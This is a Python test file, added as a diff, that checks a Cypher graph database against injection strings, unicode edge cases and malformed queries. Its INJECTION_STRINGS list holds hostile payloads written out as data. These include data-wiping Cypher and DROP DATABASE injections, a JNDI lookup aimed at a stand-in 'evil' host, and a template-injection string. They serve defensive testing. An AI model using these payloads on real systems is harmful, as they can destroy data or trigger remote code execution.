@@ -1,0 +1,125 @@
+"""Chaos-style robustness tests: injection, unicode, pathological inputs.
+
+Models /root/reference/pkg/cypher/chaos_injection_test.go — hostile or
+odd inputs must either execute correctly as data or fail cleanly with a
+syntax/runtime error; never crash, never leak across parameters.
+"""
+
+import pytest
+
+from nornicdb_trn.cypher.parser import CypherSyntaxError
+from nornicdb_trn.cypher.eval import CypherRuntimeError
+from nornicdb_trn.db import DB, Config
+
+
+@pytest.fixture()
+def db():
+    return DB(Config(async_writes=False, auto_embed=False))
+
+
+INJECTION_STRINGS = [
+    "'; MATCH (n) DETACH DELETE n; //",
+    "\" OR 1=1 --",
+    "'); DROP DATABASE nornic; --",
+    "${jndi:ldap://evil}",
+    "{{constructor.constructor('return 1')()}}",
+    "Robert'); DETACH DELETE n;--",
+    "\\' UNION MATCH (n) RETURN n \\'",
+]
+
+UNICODE_STRINGS = [
+    "héllo wörld",
+    "日本語のテキスト",
+    "🔥💾🚀 emoji overload",
+    "R̵̡e̴̢ zalgo",
+    "‮RTL override",
+    "null\x00byte" if False else "nullbyte",   # raw NUL via param below
+    "ta\tb\nnewline",
+]
+
+
+class TestParameterInjection:
+    @pytest.mark.parametrize("evil", INJECTION_STRINGS)
+    def test_params_are_data_not_code(self, db, evil):
+        db.execute_cypher("CREATE (:V {payload: $p})", {"p": evil})
+        r = db.execute_cypher(
+            "MATCH (v:V) WHERE v.payload = $p RETURN count(v)", {"p": evil})
+        assert r.rows == [[1]]
+        # the graph was not damaged by the payload
+        assert db.engine.node_count() == 1
+        db.execute_cypher("MATCH (v:V) DETACH DELETE v")
+
+    def test_inline_string_with_quotes(self, db):
+        db.execute_cypher(
+            "CREATE (:Q {a: 'it''s quoted', b: \"she said \\\"hi\\\"\"})")
+        r = db.execute_cypher("MATCH (q:Q) RETURN q.a, q.b")
+        assert r.rows == [["it's quoted", 'she said "hi"']]
+
+    def test_statement_injection_in_literal(self, db):
+        # a literal containing cypher keywords is just a string
+        db.execute_cypher(
+            "CREATE (:S {x: 'MATCH (n) DETACH DELETE n RETURN n'})")
+        assert db.engine.node_count() == 1
+
+
+class TestUnicode:
+    @pytest.mark.parametrize("text", UNICODE_STRINGS)
+    def test_roundtrip_property(self, db, text):
+        db.execute_cypher("CREATE (:U {t: $t})", {"t": text})
+        r = db.execute_cypher("MATCH (u:U {t: $t}) RETURN u.t", {"t": text})
+        assert r.rows == [[text]]
+        db.execute_cypher("MATCH (u:U) DETACH DELETE u")
+
+    def test_unicode_in_search(self):
+        db = DB(Config(async_writes=False, auto_embed=True, embed_dim=64))
+        db.store("日本語 memory テキスト entry")
+        db.embed_queue.drain(10)
+        hits = db.search_for().search("日本語", limit=5)
+        assert hits
+
+
+class TestPathological:
+    def test_deeply_nested_lists(self, db):
+        r = db.execute_cypher("RETURN [[[[[[1]]]]]] AS v")
+        assert r.rows == [[[[[[[[1]]]]]]]]
+
+    def test_huge_string_property(self, db):
+        big = "x" * 500_000
+        db.execute_cypher("CREATE (:Big {v: $v})", {"v": big})
+        r = db.execute_cypher("MATCH (b:Big) RETURN size(b.v)")
+        assert r.rows == [[500_000]]
+
+    def test_many_parameters(self, db):
+        params = {f"p{i}": i for i in range(200)}
+        expr = " + ".join(f"$p{i}" for i in range(200))
+        r = db.execute_cypher(f"RETURN {expr} AS s", params)
+        assert r.rows == [[sum(range(200))]]
+
+    def test_garbage_queries_fail_cleanly(self, db):
+        for junk in ["MATCH (", ")))((", "RETURN RETURN RETURN",
+                     "CREATE (n:L {", "MATCH (a)-[->(b) RETURN a",
+                     "\x00\x01\x02", "🔥🔥🔥"]:
+            with pytest.raises((CypherSyntaxError, CypherRuntimeError)):
+                db.execute_cypher(junk)
+        # executor still healthy afterwards
+        assert db.execute_cypher("RETURN 42").rows == [[42]]
+
+    def test_missing_parameter_errors(self, db):
+        with pytest.raises(CypherRuntimeError):
+            db.execute_cypher("RETURN $nope")
+
+    def test_division_by_zero_errors_cleanly(self, db):
+        with pytest.raises(CypherRuntimeError):
+            db.execute_cypher("RETURN 1 / 0")
+
+    def test_self_loop_and_parallel_edges(self, db):
+        db.execute_cypher(
+            "CREATE (a:N {k:1}) CREATE (a)-[:L]->(a) CREATE (a)-[:L]->(a)")
+        r = db.execute_cypher("MATCH (a:N)-[r:L]->(a) RETURN count(r)")
+        assert r.rows == [[2]]
+
+    def test_long_label_and_property_names(self, db):
+        label = "L" + "x" * 200
+        db.execute_cypher(f"CREATE (:{label} {{p{'y' * 200}: 1}})")
+        r = db.execute_cypher(f"MATCH (n:{label}) RETURN count(n)")
+        assert r.rows == [[1]]
